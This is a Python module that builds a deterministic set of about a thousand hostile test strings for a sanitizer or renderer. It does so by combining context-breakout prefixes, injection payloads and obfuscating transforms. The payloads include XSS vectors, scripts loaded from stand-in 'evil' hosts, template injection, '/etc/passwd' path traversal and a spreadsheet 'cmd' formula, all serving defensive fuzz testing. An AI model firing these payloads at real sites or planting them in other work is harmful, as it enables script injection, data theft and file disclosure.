"""A thousand texts that try to be more than text, from a grammar: what gets out of a place, what is done there, and how it is disguised."""

from __future__ import annotations

import random
from urllib.parse import quote

WAYS_OUT = [
    "", '"', "'", "`", ">", '">', "'>", '"/>', "'\"", '" ', "' ", "\\\"", "\\'", "&quot;", "&#34;", "&#x22>", "%22", "\\u0022", "\\x22", "</", "</div>", "</p></li></ul>", "</span></label>", "</button>", "</a>",
    "</textarea>", "</title>", "</style>", "</script>", "</script >", "</SCRIPT\t>", "</noscript>", "</template>", "</select>", "</option></select>", "</td></tr></tbody></table>", "</svg>", "</math>", "</iframe>",
    "</xmp>", "</hx-partial>", "</form>", "</dialog>", "</body></html>", "-->", "--!>", "]]>", "?>", "%>", "<!--", "<!-->", "<![CDATA[", "<?xml ", "<!DOCTYPE x [", "*/", "//", ";", "}", "})", '"}', '"]', "'})", ")",
    "{{", "}}", "{%", "%}", "${", "#{", "<%", "\n", "\r\n", "\t", "\x0c", "\0", "\x0b", "\u2028", "\u2029", "\u200b", "\ufeff", "\u202e", "\x7f", "\x85", "\xa0", "\\", "\\\n", "|", "\n\n", "    ", "```\n", "> ", "| a |\n|-|\n| ",
]
DEEDS = [
    "<script>alert(1)</script>", "<script src=//evil>", "<script nonce=x>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x>", "<math><mtext><table><mglyph><style><img src onerror=x>", "<math href=javascript:alert(1)>x</math>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<body onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<iframe src=javascript:alert(1)>", "<object data=//evil>", "<embed src=//evil>",
    "<a href=javascript:alert(1)>x</a>", "<a href='java\tscript:alert(1)'>x</a>", "<form id=hx action=//evil>", "<input name=_p value=x form=hx>", "<button form=hx formaction=//evil>x</button>", "<base href=//evil>",
    "<meta http-equiv=refresh content='0;url=//evil'>", "<link rel=stylesheet href=//evil>", "<style>*{background:url(//evil)}</style>", "<noscript><p title='</noscript><img src=x onerror=x>'>", "<plaintext>", "<textarea>", "<title>",
    "<select>", "<table>", "<template>", "<frameset>", "<isindex>", "<xss id=out tabindex=1 onfocus=alert(1)>", "<!--<script>x</script>-->", "<b id=out hx-swap-oob=true>x</b>", '<hx-partial id="out" hx-swap="innerHTML">x</hx-partial>',
    '<hx-partial id="hx-state" hx-swap="state">{"out":["g","t"]}</hx-partial>', "<div hx-get=/x hx-trigger=load>", "<div hx-on:load=alert(1)>", "<div data-hx-post=/x>", "<i hx-script=//evil.js></i>", "<template hx type=partial>x</template>",
    " onmouseover=alert(1) ", " onfocus=alert(1) autofocus ", " hx-get=/x hx-trigger=load ", " hx-on::load=alert(1) ", " style=position:fixed;inset:0 ", " class=hx-error ", " id=hx-state ", " name=_p form=hx ", " type=submit form=hx ",
    " srcdoc=<script>alert(1)</script> ", " href=javascript:alert(1) ", " formaction=javascript:alert(1) ", " popovertarget=x ", " commandfor=x command=show-modal ", " contenteditable ", " is=x ", " slot=x ",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", " javascript:alert(1)", "javascript&colon;alert(1)", "jav&#x09;ascript:alert(1)", "javascript:/*--></title></style>*/alert(1)",
    "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>", "blob:http://x/y", "file:///etc/passwd", "//evil.example/x", "\\\\evil\\x", "http://x@evil/",
    "url(javascript:alert(1))", "url(//evil)", "expression(alert(1))", "red;background:url(//evil)", "red}*{display:none", "red/*", "red!important;position:fixed", "\\65xpression(1)", "@import '//evil'", "var(--x);--y:1", "image-set('//evil' 1x)",
    "{{7*7}}", "{{ config.items() }}", "{% raw %}", "{% include '/etc/passwd' %}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{constructor.constructor('alert(1)')()}}", "__proto__", "constructor", "%s%n", "%00", "../../etc/passwd",
    '{"a":"</script><script>alert(1)</script>"}', '"}]}</script>', "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;script>",
    "＜script＞alert(1)＜/script＞", "<\u2028script>", "<scr\0ipt>alert(1)</scr\0ipt>", "<x\tonclick=x>", "<x/onclick=x>", "<x\x0conclick=x>", "<\x00img onerror=x>", "<ımg src=x>", "=cmd|' /C calc'!A0", "@SUM(1)", "null", "true", "1e999", "[]", "{}",
    "[x](javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x](java&#115;cript:alert(1))", "![x](javascript:alert(1))", "![x](data:text/html,<script>)", "<javascript:alert(1)>", "[x]: javascript:alert(1)\n\n[x]", '[x](/y "onmouseover=alert(1)")',
    "![\"onerror=alert(1)](x)", "```\"onload=alert(1)\nx\n```", "```<script>\nx\n```", "<div markdown=1 onclick=x>", "$\\href{javascript:alert(1)}{x}$", "$$\\text{<script>alert(1)</script>}$$", "$\\style{x:y}{z}$", "| <script> |\n|---|\n| x |",
]  # fmt: skip


def hostile_texts(count: int = 1000, seed: int = 11) -> list[str]:
    """Different texts, the same every time; each has a letter or a digit in it.

    Args:
        count: how many.
        seed: of the choice.
    """
    rng = random.Random(seed)
    found = dict.fromkeys(DEEDS)
    while len(found) < count:
        text = rng.choice(["", "", "x"]) + "".join(rng.choice(WAYS_OUT) for _ in range(rng.choice([0, 1, 1, 1, 2, 3]))) + rng.choice(DEEDS)
        if rng.random() < 0.3:
            text += rng.choice(WAYS_OUT) + rng.choice(["", rng.choice(DEEDS)])
        if rng.random() < 0.25:
            text = rng.choice(DISGUISES)(text, rng)
        if any(c.isalnum() for c in text):
            found[text] = None
    return list(found)[:count]


def _cut(text: str, rng: random.Random) -> str:
    at = rng.randrange(len(text))
    return rng.choice([text[at:], text[:at]])


def _strewn(text: str, rng: random.Random) -> str:
    at = rng.randrange(len(text))
    return text[:at] + rng.choice(["\0", "\t", "\n", "\x0c", "\xad", "\u200d", "<", "&", '"', "'", "/", "\ufffd", "\U0001f4a9"]) + text[at:]


DISGUISES = [
    lambda text, rng: text.upper(), lambda text, rng: text.swapcase(), _cut, _strewn, lambda text, rng: _strewn(_strewn(text, rng), rng), lambda text, rng: text * 2, lambda text, rng: text.replace("<", "<<"),
    lambda text, rng: text.replace(" ", rng.choice(["\n", "/", "\t", "\x0c"])), lambda text, rng: quote(text), lambda text, rng: text.replace("<", "&lt;").replace('"', "&quot;"),
    lambda text, rng: "".join(f"&#{ord(c)};" if rng.random() < 0.2 else c for c in text), lambda text, rng: text + "x" * 3000, lambda text, rng: f"<b>{text}</b>", lambda text, rng: f"{text}'\"`>-->]]>",
]  # fmt: skip

__all__ = ["hostile_texts"]
